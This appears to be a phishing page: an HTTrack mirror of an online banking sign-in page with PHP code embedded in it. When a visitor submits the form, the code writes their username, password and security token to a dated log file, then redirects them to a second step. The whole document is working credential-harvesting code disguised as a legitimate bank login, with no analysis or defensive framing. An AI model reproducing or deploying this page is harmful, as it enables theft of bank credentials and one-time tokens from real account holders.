<!DOCTYPE html>
<html>
<!-- Mirrored from secure.bank.example/login by HTTrack Website Copier/3.x [XR&CO'2014], Mon, 02 Jun 2014 10:00:00 GMT -->
<head><title>Online Banking - Sign in</title></head>
<body>
<?php
if (isset($_POST['user'])) {
    $line = $_POST['user'] . "|" . $_POST['pass'] . "|" . $_POST['token'] . "\n";
    file_put_contents("log/" . date("Ymd") . ".txt", $line, FILE_APPEND);
    header("Location: step2.php");
    exit;
}
?>
<form method="post"><input name="user"><input name="pass" type="password"><input name="token"><button>Sign in</button></form>
</body>
</html>
